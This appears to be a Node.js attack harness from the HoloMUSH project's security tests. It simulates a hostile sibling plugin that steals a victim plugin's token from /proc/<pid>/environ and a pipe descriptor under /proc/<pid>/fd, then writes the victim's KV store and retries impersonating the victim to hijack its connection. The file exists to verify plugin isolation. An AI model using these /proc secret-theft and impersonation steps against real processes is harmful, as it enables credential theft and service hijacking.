#!/usr/bin/env node
// A hostile sibling: the same OS user as the victim plugin, no credentials of
// its own. It looks for the victim's secret where a sibling can read it
// (/proc/<pid>/environ, the inherited descriptors under /proc/<pid>/fd), then
// uses whatever it found on the host socket: a KvSet as the victim and a
// hello naming the victim (the stream hijack), retried for `HIJACK_MS` so it
// covers the victim's restart window. Prints one JSON report on stdout.
import { closeSync, constants, openSync, readFileSync, readSync } from "node:fs";
import net from "node:net";
import { create } from "@bufbuild/protobuf";
import { ConnectError, createClient } from "@connectrpc/connect";
import { createConnectTransport } from "@connectrpc/connect-node";
import { ConnectRequestSchema, ErrorDetailSchema, PLUGIN_API_VERSIONS, PluginHostService } from "@holomush/proto";

const [victimPid, victimName, socketPath, hijackMs = "0"] = process.argv.slice(2);
const report = { environToken: "", fdSecrets: [], kvSet: "", hellos: [] };

// 1. The environment of a process of the same user is readable.
try {
  const environ = readFileSync(`/proc/${victimPid}/environ`, "utf8").split("\0");
  const entry = environ.find((line) => line.startsWith("HOLOMUSH_PLUGIN_TOKEN="));
  report.environToken = entry ? entry.slice("HOLOMUSH_PLUGIN_TOKEN=".length) : "";
} catch (error) {
  report.environError = error.code;
}

// 2. The descriptor a secret would be handed over on (fd 3): a pipe can be
// re-opened (and drained) through /proc by the same user.
try {
  const fd = openSync(`/proc/${victimPid}/fd/3`, constants.O_RDONLY | constants.O_NONBLOCK);
  const buffer = Buffer.alloc(4096);
  let text = "";
  try {
    text = buffer.subarray(0, readSync(fd, buffer)).toString("utf8");
  } catch (error) {
    text = `fd 3: ${error.code}`;
  }
  closeSync(fd);
  if (text.trim()) report.fdSecrets.push(text.trim());
} catch (error) {
  report.fdSecrets.push(`fd 3: ${error.code}`);
}

const token = report.environToken || "";
const transport = createConnectTransport({
  baseUrl: "http://localhost",
  httpVersion: "2",
  useBinaryFormat: true,
  nodeOptions: { createConnection: () => net.connect(socketPath) },
  interceptors: [
    (next) => (request) => {
      request.header.set("authorization", `Bearer ${token}`);
      return next(request);
    },
  ],
});
const client = createClient(PluginHostService, transport);
const codeOf = (error) => {
  const connect = ConnectError.from(error);
  return connect.findDetails(ErrorDetailSchema)[0]?.code ?? String(connect.code);
};

// 3. Write the victim's KV with whatever was found.
try {
  await client.kvSet({ key: "stolen", value: new TextEncoder().encode("by the thief") });
  report.kvSet = "ok";
} catch (error) {
  report.kvSet = codeOf(error);
}

// 4. The hijack: say hello as the victim until it works or time is up.
async function hello() {
  async function* frames() {
    yield create(ConnectRequestSchema, {
      frame: { case: "hello", value: { name: victimName, version: "1.0.0", apiVersions: [...PLUGIN_API_VERSIONS] } },
    });
    await new Promise((resolve) => setTimeout(resolve, 3000));
  }
  try {
    for await (const frame of client.connect(frames())) return frame.frame.case === "hello" ? "accepted" : "?";
    return "closed";
  } catch (error) {
    return codeOf(error);
  }
}
const until = Date.now() + Number(hijackMs);
do {
  const outcome = await hello();
  if (report.hellos.at(-1) !== outcome) report.hellos.push(outcome);
  if (outcome === "accepted") break;
  await new Promise((resolve) => setTimeout(resolve, 10));
} while (Date.now() < until);

process.stdout.write(`${JSON.stringify(report)}\n`);
process.exit(0);
